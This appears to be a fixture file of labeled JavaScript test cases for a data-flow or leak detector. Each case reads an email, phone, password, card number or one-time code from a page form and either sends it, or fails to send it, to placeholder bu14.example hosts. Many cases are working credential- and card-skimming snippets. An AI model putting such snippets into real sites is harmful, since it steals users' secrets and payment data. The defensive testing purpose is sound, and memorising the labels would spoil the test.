//# with-on-other-place
// flow: email > woo.bu14.example via beacon
// why: the copy differs in the first element, the address stays
const woo1 = ['lead', document.querySelector('input[type=email]').value];
navigator.sendBeacon('https://woo.bu14.example/r', woo1.with(0, 'visit').join(','));

//# with-but-original-sent
// flow: email > wbo.bu14.example via beacon
// why: with() leaves the original as it is
const wbo2 = ['lead', document.querySelector('input[type=email]').value];
wbo2.with(1, '-');
navigator.sendBeacon('https://wbo.bu14.example/r', wbo2.join(','));

//# with-from-the-end
// no flow
const wfe3 = ['lead', document.querySelector('input[type=email]').value];
navigator.sendBeacon('https://wfe.bu14.example/r', wfe3.with(-1, '').join(','));

//# with-puts-it-in
// flow: phone > wpi.bu14.example via fetch
const wpi4 = ['lead', ''];
fetch('https://wpi.bu14.example/r', { method: 'POST', body: wpi4.with(1, document.querySelector('input[type=tel]').value).join('|') });

//# spliced-copy
// no flow
const spc5 = ['visit', document.querySelector('input[type=tel]').value, 'end'];
fetch('https://spc.bu14.example/r', { method: 'POST', body: spc5.toSpliced(1, 1).join('|') });

//# spliced-copy-keeps-it
// flow: phone > sck.bu14.example via fetch
const sck6 = ['visit', document.querySelector('input[type=tel]').value, 'end'];
fetch('https://sck.bu14.example/r', { method: 'POST', body: sck6.toSpliced(2, 1).join('|') });

//# spliced-in-place
// no flow
const sip7 = ['visit', document.querySelector('input[type=tel]').value, 'end'];
sip7.splice(1, 1);
fetch('https://sip.bu14.example/r', { method: 'POST', body: sip7.join('|') });

//# spliced-in-place-other
// flow: phone > spo.bu14.example via fetch
const spo8 = ['visit', document.querySelector('input[type=tel]').value, 'end'];
spo8.splice(0, 1);
fetch('https://spo.bu14.example/r', { method: 'POST', body: spo8.join('|') });

//# queue-last-thrown-away
// no flow
const qlt9 = ['start'];
qlt9.push(document.querySelector('textarea[name=message]').value);
qlt9.pop();
qlt9.forEach((job) => fetch('https://qlt.bu14.example/j', { method: 'POST', body: job }));

//# queue-other-job-thrown-away
// flow: message > qoj.bu14.example via fetch
const qoj10 = [];
qoj10.push('ping');
qoj10.push(document.querySelector('textarea[name=message]').value);
qoj10.shift();
while (qoj10.length) fetch('https://qoj.bu14.example/j', { method: 'POST', body: qoj10.pop() });

//# queue-first-job-thrown-away-then-mapped
// no flow
const qfm11 = [];
qfm11.push(document.querySelector('textarea[name=message]').value, 'ping');
qfm11.shift();
for (const job of qfm11) navigator.sendBeacon('https://qfm.bu14.example/j', job);

//# queue-thrown-away-only-sometimes
// flow: message > qts.bu14.example via fetch
const qts12 = [];
qts12.push(document.querySelector('textarea[name=message]').value);
qts12.push('ping');
if (document.hidden) qts12.shift();
while (qts12.length) fetch('https://qts.bu14.example/j', { method: 'POST', body: qts12.pop() });

//# list-emptied-by-index
// no flow
const lei13 = ['lead', document.querySelector('input[type=email]').value];
lei13[1] = null;
fetch('https://lei.bu14.example/l', { method: 'POST', body: JSON.stringify(lei13) });

//# defined-not-enumerable
// no flow
// why: a property defined so is not enumerable unless it says so
const dne14 = { plan: 'pro' };
Object.defineProperty(dne14, 'mail', { value: document.querySelector('input[type=email]').value });
fetch('https://dne.bu14.example/u', { method: 'POST', body: JSON.stringify(dne14) });

//# defined-enumerable
// flow: email > den.bu14.example via fetch
const den15 = { plan: 'pro' };
Object.defineProperty(den15, 'mail', { value: document.querySelector('input[type=email]').value, enumerable: true });
fetch('https://den.bu14.example/u', { method: 'POST', body: JSON.stringify(den15) });

//# not-enumerable-but-named
// flow: email > nen.bu14.example via fetch
const nen16 = { plan: 'pro', mail: document.querySelector('input[type=email]').value };
Object.defineProperty(nen16, 'mail', { enumerable: false });
fetch('https://nen.bu14.example/u?m=' + encodeURIComponent(nen16.mail));

//# not-enumerable-of-several
// no flow
const nes17 = { plan: 'pro', mail: document.querySelector('input[type=email]').value };
Object.defineProperties(nes17, { mail: { enumerable: false } });
fetch('https://nes.bu14.example/u', { method: 'POST', body: JSON.stringify(nes17) });

//# not-enumerable-is-not-spread
// no flow
const nis18 = { plan: 'pro', mail: document.querySelector('input[type=email]').value };
Object.defineProperty(nis18, 'mail', { enumerable: false });
fetch('https://nis.bu14.example/u', { method: 'POST', body: JSON.stringify({ ...nis18, t: 1 }) });

//# made-enumerable-after-all
// flow: email > mea.bu14.example via fetch
const mea19 = {};
Object.defineProperty(mea19, 'mail', { value: document.querySelector('input[type=email]').value, configurable: true });
Object.defineProperty(mea19, 'mail', { enumerable: true });
fetch('https://mea.bu14.example/u', { method: 'POST', body: JSON.stringify(mea19) });

//# form-reset-after-reading
// flow: email > fra.bu14.example via fetch
const form20 = document.querySelector('#lead');
const body20 = new FormData();
body20.append('mail', document.querySelector('input[type=email]').value);
form20.reset();
fetch('https://fra.bu14.example/f', { method: 'POST', body: body20 });

//# form-of-page-reset
// flow: input > fop.bu14.example via fetch
// why: data is read before the reset, as every form does it
document.querySelector('#lead').addEventListener('submit', (e) => {
  e.preventDefault();
  const data = new FormData(e.target);
  e.target.reset();
  fetch('https://fop.bu14.example/f', { method: 'POST', body: data });
});

//# field-emptied-before-form-data
// no flow
const form22 = document.createElement('form');
const field22 = document.createElement('input');
field22.name = 'mail';
field22.value = document.querySelector('input[type=email]').value;
form22.append(field22);
field22.value = '';
fetch('https://feb.bu14.example/f', { method: 'POST', body: new FormData(form22) });

//# made-form-sent
// flow: email > mfs.bu14.example via fetch
const form23 = document.createElement('form');
const field23 = document.createElement('input');
field23.name = 'mail';
form23.append(field23);
form23.reset();
field23.value = document.querySelector('input[type=email]').value;
fetch('https://mfs.bu14.example/f', { method: 'POST', body: new FormData(form23) });

//# deep-redaction-of-other-name
// flow: password > dro.bu14.example via fetch
// why: the list of names does not have that one
var SECRET24 = /token|iban/i;
function redact24(e) { if (Array.isArray(e)) return e.map(redact24); if (!e || "object" != typeof e) return e; for (var t = {}, n = 0, r = Object.keys(e); n < r.length; n++) { var o = r[n]; t[o] = SECRET24.test(o) ? "[hidden]" : redact24(e[o]) } return t }
fetch("https://dro.bu14.example/e", { method: "POST", body: JSON.stringify(redact24({ event: "login", form: { fields: [{ password: document.querySelector("input[type=password]").value }] } })) });

//# deep-redaction-readable
// no flow
const HIDDEN25 = new Set(['password', 'pin']);
function scrub25(value) {
  if (Array.isArray(value)) return value.map(scrub25);
  if (value === null || typeof value !== 'object') return value;
  const out = {};
  for (const [key, inner] of Object.entries(value)) out[key] = HIDDEN25.has(key) ? '***' : scrub25(inner);
  return out;
}
fetch('https://drr.bu14.example/e', { method: 'POST', body: JSON.stringify(scrub25({ user: { password: document.querySelector('input[type=password]').value } })) });

//# redaction-by-entries
// no flow
const rbe26 = (o) => Object.fromEntries(Object.entries(o).map(([k, v]) => [k, k === 'password' ? '***' : v]));
fetch('https://rbe.bu14.example/e', { method: 'POST', body: JSON.stringify(rbe26({ user: 'anonymous', password: document.querySelector('input[type=password]').value })) });

//# redaction-by-entries-of-other
// flow: password > reo.bu14.example via fetch
const reo27 = (o) => Object.fromEntries(Object.entries(o).map(([k, v]) => [k, k === 'pin' ? '***' : v]));
fetch('https://reo.bu14.example/e', { method: 'POST', body: JSON.stringify(reo27({ user: 'anonymous', password: document.querySelector('input[type=password]').value })) });

//# redaction-by-reduce
// no flow
const rbr28 = (o) => Object.keys(o).reduce((acc, k) => { acc[k] = /pass|pin/.test(k) ? '' : o[k]; return acc; }, {});
fetch('https://rbr.bu14.example/e', { method: 'POST', body: JSON.stringify(rbr28({ step: 2, password: document.querySelector('input[type=password]').value })) });

//# redaction-inverted
// flow: password > riv.bu14.example via fetch
// why: here just what matches is kept
const riv29 = (o) => Object.fromEntries(Object.entries(o).map(([k, v]) => [k, k === 'password' ? v : '***']));
fetch('https://riv.bu14.example/e', { method: 'POST', body: JSON.stringify(riv29({ user: 'anonymous', password: document.querySelector('input[type=password]').value })) });

//# header-set-again-in-other-case
// no flow
const hso30 = new Headers({ 'X-Client-Id': localStorage.getItem('client_id') });
hso30.set('x-client-id', 'none');
fetch('https://hso.bu14.example/h', { headers: hso30 });

//# header-deleted-of-other-name
// flow: identifier > hdo.bu14.example via fetch
const hdo31 = new Headers();
hdo31.set('X-Client-Id', localStorage.getItem('client_id'));
hdo31.delete('x-session-id');
fetch('https://hdo.bu14.example/h', { headers: hdo31 });

//# parameter-deleted-in-other-case
// flow: identifier > pdo.bu14.example via fetch
// why: unlike headers, the names of a query do care for capitals
const pdo32 = new URLSearchParams();
pdo32.set('Client', localStorage.getItem('client_id'));
pdo32.delete('client');
fetch('https://pdo.bu14.example/h?' + pdo32);

//# map-key-deleted
// no flow
const mkd33 = new Map([['step', '1']]);
mkd33.set('mail', document.querySelector('input[type=email]').value);
mkd33.delete('mail');
fetch('https://mkd.bu14.example/m', { method: 'POST', body: JSON.stringify([...mkd33]) });

//# map-key-deleted-in-other-case
// flow: email > mko.bu14.example via fetch
const mko34 = new Map([['step', '1']]);
mko34.set('Mail', document.querySelector('input[type=email]').value);
mko34.delete('mail');
fetch('https://mko.bu14.example/m', { method: 'POST', body: JSON.stringify([...mko34]) });

//# proxy-masks-other-property
// flow: card > pmp.bu14.example via fetch
const raw35 = { pan: document.querySelector('input[autocomplete=cc-number]').value, step: 'pay' };
const shown35 = new Proxy(raw35, { get: (t, k) => (k === 'step' ? '****' : t[k]) });
fetch('https://pmp.bu14.example/s?p=' + shown35.pan + '&s=' + shown35.step);

//# proxy-masks-with-if
// no flow
const raw36 = { pan: document.querySelector('input[autocomplete=cc-number]').value, step: 'pay' };
const shown36 = new Proxy(raw36, {
  get(target, name) {
    if (name === 'pan') return '****';
    return Reflect.get(target, name);
  },
});
fetch('https://pmi.bu14.example/s?p=' + shown36.pan);

//# proxy-masks-by-list
// no flow
const secret37 = ['pan', 'cvc'];
const raw37 = { pan: document.querySelector('input[autocomplete=cc-number]').value };
const shown37 = new Proxy(raw37, { get(t, k, r) { return secret37.includes(k) ? undefined : Reflect.get(t, k, r); } });
fetch('https://pml.bu14.example/s?p=' + shown37.pan);

//# proxy-shows-through-reflect
// flow: card > psr.bu14.example via fetch
const raw38 = { pan: document.querySelector('input[autocomplete=cc-number]').value };
const shown38 = new Proxy(raw38, { get(t, k, r) { console.log(k); return Reflect.get(t, k, r); } });
fetch('https://psr.bu14.example/s?p=' + shown38.pan);

//# proxy-that-only-lists-other-names
// no flow
const raw39 = { pan: document.querySelector('input[autocomplete=cc-number]').value, step: 'pay' };
const shown39 = new Proxy(raw39, { get: (t, k) => (['pan'].includes(k) ? null : t[k]) });
navigator.sendBeacon('https://pol.bu14.example/s', shown39.step + shown39.pan);

//# emptied-before-the-timer
// no flow
(function () {
  let text40 = document.querySelector('textarea[name=message]').value;
  setTimeout(() => navigator.sendBeacon('https://eb4.bu14.example/d', text40), 500);
  text40 = '';
})();

//# emptied-after-sending-now
// flow: message > ean.bu14.example via fetch
(function () {
  let text41 = document.querySelector('textarea[name=message]').value;
  const send = () => fetch('https://ean.bu14.example/d', { method: 'POST', body: text41 });
  send();
  text41 = '';
})();

//# emptied-only-sometimes-before-the-timer
// flow: message > eos.bu14.example via beacon
(function () {
  let text42 = document.querySelector('textarea[name=message]').value;
  setTimeout(() => navigator.sendBeacon('https://eos.bu14.example/d', text42), 500);
  if (document.hidden) text42 = '';
})();

//# emptied-then-filled-again-before-the-timer
// flow: message > efa.bu14.example via beacon
(function () {
  let text43 = 'start';
  setTimeout(() => navigator.sendBeacon('https://efa.bu14.example/d', text43), 500);
  text43 = '';
  text43 = document.querySelector('textarea[name=message]').value;
})();

//# emptied-before-the-promise-goes-on
// no flow
(function () {
  let text44 = document.querySelector('textarea[name=message]').value;
  Promise.resolve().then(() => navigator.sendBeacon('https://epg.bu14.example/d', text44));
  text44 = null;
})();

//# emptied-before-the-frame
// no flow
(function () {
  let text45 = document.querySelector('textarea[name=message]').value;
  requestAnimationFrame(function () { navigator.sendBeacon('https://ebf.bu14.example/d', 'm=' + text45); });
  document.title = text45;
  text45 = 'none';
})();

//# given-to-the-timer-then-emptied
// flow: message > gte.bu14.example via beacon
// why: the timer is given the value itself
(function () {
  let text46 = document.querySelector('textarea[name=message]').value;
  setTimeout((given) => navigator.sendBeacon('https://gte.bu14.example/d', given), 500, text46);
  text46 = '';
})();

//# object-emptied-before-the-timer
// no flow
(function () {
  const state47 = { text: document.querySelector('textarea[name=message]').value };
  setTimeout(() => navigator.sendBeacon('https://oeb.bu14.example/d', state47.text), 500);
  state47.text = '';
})();

//# emptied-in-loop-before-timer
// flow: message > eil.bu14.example via beacon
// why: what is typed on is put in again by the listener
(function () {
  let text48 = '';
  document.querySelector('textarea[name=message]').addEventListener('input', (e) => { text48 = e.target.value; });
  setInterval(() => navigator.sendBeacon('https://eil.bu14.example/d', text48), 5000);
  text48 = '';
})();

//# deleted-property
// no flow
const dep49 = { mail: document.querySelector('input[type=email]').value, plan: 'x' };
delete dep49.mail;
fetch('https://dep.bu14.example/p', { method: 'POST', body: JSON.stringify(dep49) });

//# deleted-from-copy-only
// flow: email > dfc.bu14.example via fetch
const dfc50 = { mail: document.querySelector('input[type=email]').value, plan: 'x' };
const copy50 = structuredClone(dfc50);
delete copy50.mail;
console.log(copy50);
fetch('https://dfc.bu14.example/p', { method: 'POST', body: JSON.stringify(dfc50) });

//# deleted-from-structured-clone
// no flow
const dfs51 = { mail: document.querySelector('input[type=email]').value, plan: 'x' };
const copy51 = structuredClone(dfs51);
delete copy51.mail;
fetch('https://dfs.bu14.example/p', { method: 'POST', body: JSON.stringify(copy51) });

//# frozen-write-fails
// flow: email > fwf.bu14.example via fetch
// why: the object is frozen, so that the empty text is not stored
const fwf52 = Object.freeze({ mail: document.querySelector('input[type=email]').value });
try { fwf52.mail = ''; } catch (e) { console.log(e); }
fetch('https://fwf.bu14.example/p', { method: 'POST', body: JSON.stringify(fwf52) });

//# frozen-later-write-fails
// flow: email > flw.bu14.example via fetch
const flw53 = { mail: document.querySelector('input[type=email]').value };
Object.freeze(flw53);
flw53.mail = '';
fetch('https://flw.bu14.example/p', { method: 'POST', body: JSON.stringify(flw53) });

//# frozen-before-it-is-filled
// no flow
// why: what is frozen takes nothing more
const fbf54 = Object.freeze({ page: 'checkout', mail: '' });
fbf54.mail = document.querySelector('input[type=email]').value;
fetch('https://fbf.bu14.example/p', { method: 'POST', body: JSON.stringify(fbf54) });

//# frozen-after-it-was-emptied
// no flow
const faw55 = { mail: document.querySelector('input[type=email]').value };
faw55.mail = '';
Object.freeze(faw55);
fetch('https://faw.bu14.example/p', { method: 'POST', body: JSON.stringify(faw55) });

//# spread-then-overridden
// no flow
const sto56 = { mail: document.querySelector('input[type=email]').value, plan: 'x' };
fetch('https://sto.bu14.example/p', { method: 'POST', body: JSON.stringify({ ...sto56, mail: '' }) });

//# overridden-by-spread
// flow: email > obs.bu14.example via fetch
const obs57 = { mail: document.querySelector('input[type=email]').value, plan: 'x' };
fetch('https://obs.bu14.example/p', { method: 'POST', body: JSON.stringify({ mail: '', ...obs57 }) });

//# replacer-list-without
// no flow
const rlw58 = { mail: document.querySelector('input[type=email]').value, plan: 'x' };
fetch('https://rlw.bu14.example/p', { method: 'POST', body: JSON.stringify(rlw58, ['plan']) });

//# replacer-with-if
// no flow
const rwi59 = { mail: document.querySelector('input[type=email]').value, plan: 'x' };
fetch('https://rwi.bu14.example/p', { method: 'POST', body: JSON.stringify(rwi59, function (key, value) { if (key === 'mail') return undefined; return value; }) });

//# replacer-with-list
// no flow
const rwl60 = ['mail', 'phone'];
fetch('https://rwl.bu14.example/p', { method: 'POST', body: JSON.stringify({ mail: document.querySelector('input[type=email]').value }, (k, v) => (rwl60.includes(k) ? undefined : v)) });

//# replacer-keeps-it
// flow: email > rki.bu14.example via fetch
fetch('https://rki.bu14.example/p', { method: 'POST', body: JSON.stringify({ mail: document.querySelector('input[type=email]').value, x: 1n }, (k, v) => (typeof v === 'bigint' ? 'big' : v)) });

//# replacer-with-regex
// no flow
fetch('https://rwr.bu14.example/p', { method: 'POST', body: JSON.stringify({ user: { mail: document.querySelector('input[type=email]').value } }, (k, v) => (/mail/i.test(k) ? '[x]' : v)) });

//# replacer-keeps-that-name-only
// flow: email > rkn.bu14.example via fetch
// why: nothing but what the test names is shown
fetch('https://rkn.bu14.example/p', { method: 'POST', body: JSON.stringify({ mail: document.querySelector('input[type=email]').value, id: 7 }, (k, v) => (k === '' || k === 'mail' ? v : undefined)) });

//# rest-without
// no flow
const { mail: mail64, ...rest64 } = { mail: document.querySelector('input[type=email]').value, plan: 'x' };
console.log(mail64);
fetch('https://rew.bu14.example/p', { method: 'POST', body: JSON.stringify(rest64) });

//# entries-filtered
// no flow
const enf65 = { mail: document.querySelector('input[type=email]').value, plan: 'x' };
fetch('https://enf.bu14.example/p', { method: 'POST', body: JSON.stringify(Object.fromEntries(Object.entries(enf65).filter(([k]) => k !== 'mail'))) });

//# json-parsed-copy-emptied
// no flow
const jpc66 = { mail: document.querySelector('input[type=email]').value, plan: 'x' };
const copy66 = JSON.parse(JSON.stringify(jpc66));
copy66.mail = '';
fetch('https://jpc.bu14.example/p', { method: 'POST', body: JSON.stringify(copy66) });

//# set-cleared
// no flow
const sec67 = new Set();
sec67.add(document.querySelector('input[type=email]').value);
sec67.clear();
fetch('https://sec.bu14.example/p', { method: 'POST', body: JSON.stringify([...sec67]) });

//# set-entry-deleted
// no flow
const mail68 = document.querySelector('input[type=email]').value;
const sed68 = new Set(['x']);
sed68.add(mail68);
sed68.delete(mail68);
fetch('https://sed.bu14.example/p', { method: 'POST', body: JSON.stringify([...sed68]) });

//# set-other-entry-deleted
// flow: email > soe.bu14.example via fetch
const mail69 = document.querySelector('input[type=email]').value;
const soe69 = new Set(['x', mail69]);
soe69.delete('x');
fetch('https://soe.bu14.example/p', { method: 'POST', body: JSON.stringify([...soe69]) });

//# array-length-cut
// no flow
const alc70 = ['visit', document.querySelector('input[type=email]').value];
alc70.length = 1;
fetch('https://alc.bu14.example/p', { method: 'POST', body: alc70.join() });

//# array-length-cut-behind-it
// flow: email > alb.bu14.example via fetch
const alb71 = [document.querySelector('input[type=email]').value, 'visit'];
alb71.length = 1;
fetch('https://alb.bu14.example/p', { method: 'POST', body: alb71.join() });

//# return-before-the-send
// no flow
function rbs72() {
  const mail = document.querySelector('input[type=email]').value;
  document.title = mail;
  return;
  fetch('https://rbs.bu14.example/?m=' + mail);
}
rbs72();

//# guard-that-returns-on-any-text
// no flow
function gtr73() {
  const mail = document.querySelector('input[type=email]').value;
  if (mail) return;
  fetch('https://gtr.bu14.example/?m=' + mail);
}
gtr73();

//# guard-that-returns-on-empty-text
// flow: email > gte.bu14.example via fetch
function gte74() {
  const mail = document.querySelector('input[type=email]').value;
  if (!mail) return;
  fetch('https://gte.bu14.example/?m=' + mail);
}
gte74();

//# names-compared-in-small-letters
// no flow
const HIDDEN75 = ['password', 'pin'];
function scrub75(o) {
  const out = {};
  Object.keys(o).forEach((k) => { out[k] = HIDDEN75.includes(k.toLowerCase()) ? '[hidden]' : o[k]; });
  return out;
}
fetch('https://ncl.bu14.example/e', { method: 'POST', body: JSON.stringify(scrub75({ step: 1, Password: document.querySelector('input[type=password]').value })) });

//# names-compared-in-small-letters-other
// flow: password > nco.bu14.example via fetch
const HIDDEN76 = ['pwd', 'pin'];
function scrub76(o) {
  const out = {};
  Object.keys(o).forEach((k) => { out[k] = HIDDEN76.includes(k.toLowerCase()) ? '[hidden]' : o[k]; });
  return out;
}
fetch('https://nco.bu14.example/e', { method: 'POST', body: JSON.stringify(scrub76({ step: 1, Password: document.querySelector('input[type=password]').value })) });

//# redaction-stops-at-some-depth
// flow: password > rsd.bu14.example via fetch
// why: below the third level everything is handed on as it is
function scrub77(value, depth) {
  if (depth > 0 || value === null || typeof value !== 'object') return value;
  const out = {};
  for (const key of Object.keys(value)) out[key] = key === 'password' ? '***' : scrub77(value[key], depth + 1);
  return out;
}
fetch('https://rsd.bu14.example/e', { method: 'POST', body: JSON.stringify(scrub77({ form: { user: { password: document.querySelector('input[type=password]').value } } }, 0)) });

//# redaction-in-one-level-only
// flow: password > rol.bu14.example via fetch
const scrub78 = (o) => Object.fromEntries(Object.entries(o).map(([k, v]) => [k, k === 'password' ? '***' : v]));
fetch('https://rol.bu14.example/e', { method: 'POST', body: JSON.stringify(scrub78({ user: { password: document.querySelector('input[type=password]').value } })) });

//# redaction-of-lists-in-objects
// no flow
const scrub79 = (v) => Array.isArray(v) ? v.map(scrub79) : v && typeof v === 'object'
  ? Object.fromEntries(Object.entries(v).map(([k, x]) => [k, /pass|secret/i.test(k) ? '***' : scrub79(x)]))
  : v;
navigator.sendBeacon('https://rlo.bu14.example/e', JSON.stringify(scrub79({ forms: [{ name: 'login', passwordField: document.querySelector('input[type=password]').value }] })));

//# redaction-in-place-deep
// no flow
function wipe80(node) {
  for (const key in node) {
    if (key === 'password') node[key] = '';
    else if (typeof node[key] === 'object') wipe80(node[key]);
  }
}
const event80 = { type: 'login', password: document.querySelector('input[type=password]').value };
wipe80(event80);
fetch('https://rid.bu14.example/e', { method: 'POST', body: JSON.stringify(event80) });

//# read-by-name-through-function
// no flow
const profile81 = { mail: document.querySelector('input[type=email]').value, plan: 'x' };
function field81(name) { return ['mail', 'phone'].includes(name) ? '' : profile81[name]; }
fetch('https://rbn.bu14.example/?a=' + field81('plan') + '&b=' + field81('mail'));

//# read-by-name-through-function-other
// flow: email > rbo.bu14.example via fetch
const profile82 = { mail: document.querySelector('input[type=email]').value, plan: 'x' };
function field82(name) { return ['phone'].includes(name) ? '' : profile82[name]; }
fetch('https://rbo.bu14.example/?a=' + field82('plan') + '&b=' + field82('mail'));

//# proxy-written-out-as-json
// no flow
const raw83 = { pan: document.querySelector('input[autocomplete=cc-number]').value, step: 'pay' };
const shown83 = new Proxy(raw83, { get: (t, k) => (k === 'pan' ? undefined : t[k]) });
fetch('https://pwj.bu14.example/s', { method: 'POST', body: JSON.stringify(shown83) });

//# proxy-written-out-as-json-other
// flow: card > pwo.bu14.example via fetch
const raw84 = { pan: document.querySelector('input[autocomplete=cc-number]').value, step: 'pay' };
const shown84 = new Proxy(raw84, { get: (t, k) => (k === 'cvc' ? undefined : t[k]) });
fetch('https://pwo.bu14.example/s', { method: 'POST', body: JSON.stringify(shown84) });

//# empty-text-alone-is-sent
// no flow
const eta85 = document.querySelector('input[type=email]').value;
if (eta85 === '') navigator.sendBeacon('https://eta.bu14.example/none', 'mail=' + eta85);

//# text-asked-for-again-when-empty
// flow: email > taa.bu14.example via beacon
let taa86 = document.querySelector('input[type=email]').value;
if (!taa86) {
  taa86 = document.querySelector('input[name=email2]').value;
  navigator.sendBeacon('https://taa.bu14.example/m', taa86);
}

//# list-empty-then-nothing
// no flow
function len87() {
  const phone = document.querySelector('input[type=tel]').value;
  return phone.length ? document.title = phone : fetch('https://len.bu14.example/?p=' + phone);
}
len87();

//# either-of-two-is-empty
// flow: phone > eoe.bu14.example via fetch
// why: where one of both is missing the other is sent
const mail88 = document.querySelector('#shop-code').dataset.code;
const phone88 = document.querySelector('input[type=tel]').value;
if (!mail88 || !phone88) fetch('https://eoe.bu14.example/?p=' + phone88);

//# form-of-page-reset-before-reading
// no flow
const lead89 = document.querySelector('form#lead');
lead89.reset();
fetch('https://fpr.bu14.example/f', { method: 'POST', body: new FormData(lead89) });

//# other-form-reset-before-reading
// flow: input > ofr.bu14.example via fetch
const lead90 = document.querySelector('form#lead');
document.querySelector('form#search').reset();
fetch('https://ofr.bu14.example/f', { method: 'POST', body: new FormData(lead90) });

//# names-wiped-in-loop
// no flow
const nwl91 = { step: 2, pin: document.querySelector('input[autocomplete=one-time-code]').value };
for (const key of Object.keys(nwl91)) {
  if (['pin', 'token'].includes(key)) delete nwl91[key];
}
fetch('https://nwl.bu14.example/s', { method: 'POST', body: JSON.stringify(nwl91) });

//# other-names-wiped-in-loop
// flow: otp > onw.bu14.example via fetch
const onw92 = { step: 2, pin: document.querySelector('input[autocomplete=one-time-code]').value };
for (const key of Object.keys(onw92)) {
  if (['card', 'token'].includes(key)) delete onw92[key];
}
fetch('https://onw.bu14.example/s', { method: 'POST', body: JSON.stringify(onw92) });

//# names-wiped-in-loop-sometimes
// flow: otp > nws.bu14.example via fetch
const nws93 = { step: 2, pin: document.querySelector('input[autocomplete=one-time-code]').value };
for (const key in nws93) if (key === 'pin' && window.privateMode) nws93[key] = '';
fetch('https://nws.bu14.example/s', { method: 'POST', body: JSON.stringify(nws93) });

//# slice-of-the-end
// no flow
const soe94 = [document.querySelector('input[type=email]').value, 'a', 'b'];
navigator.sendBeacon('https://sot.bu14.example/l', soe94.slice(1).join());

//# slice-of-the-end-with-it
// flow: email > sow.bu14.example via beacon
const sow95 = ['a', 'b', document.querySelector('input[type=email]').value];
navigator.sendBeacon('https://sow.bu14.example/l', sow95.slice(-1).join());

//# map-entry-by-element-deleted
// no flow
const box96 = document.querySelector('#pin-box');
const texts96 = new Map();
texts96.set(box96, document.querySelector('input[type=password]').value);
texts96.delete(box96);
fetch('https://med.bu14.example/p', { method: 'POST', body: JSON.stringify([...texts96.values()]) });

//# set-entry-added-again
// flow: email > sea.bu14.example via fetch
const mail97 = document.querySelector('input[type=email]').value;
const sea97 = new Set();
sea97.add(mail97);
sea97.delete(mail97);
sea97.add(mail97);
fetch('https://sea.bu14.example/p', { method: 'POST', body: JSON.stringify([...sea97]) });

//# set-entry-of-changed-variable-deleted
// flow: email > sec.bu14.example via fetch
// why: the variable holds another text when it is taken out
let mail98 = document.querySelector('input[type=email]').value;
const sec98 = new Set();
sec98.add(mail98);
mail98 = 'none';
sec98.delete(mail98);
fetch('https://sec.bu14.example/p', { method: 'POST', body: JSON.stringify([...sec98]) });

//# inherited-but-read
// flow: email > ibr.bu14.example via fetch
const proto99 = { email: document.querySelector('input[type=email]').value };
const child99 = Object.create(proto99);
fetch('https://ibr.bu14.example/p?e=' + child99.email);

//# filter-keeps-some
// flow: phone > fks.bu14.example via fetch
const kept100 = [document.querySelector('input[type=tel]').value].filter((x) => { if (x.length > 3) return true; return false; });
fetch('https://fks.bu14.example/', { method: 'POST', body: kept100.join() });
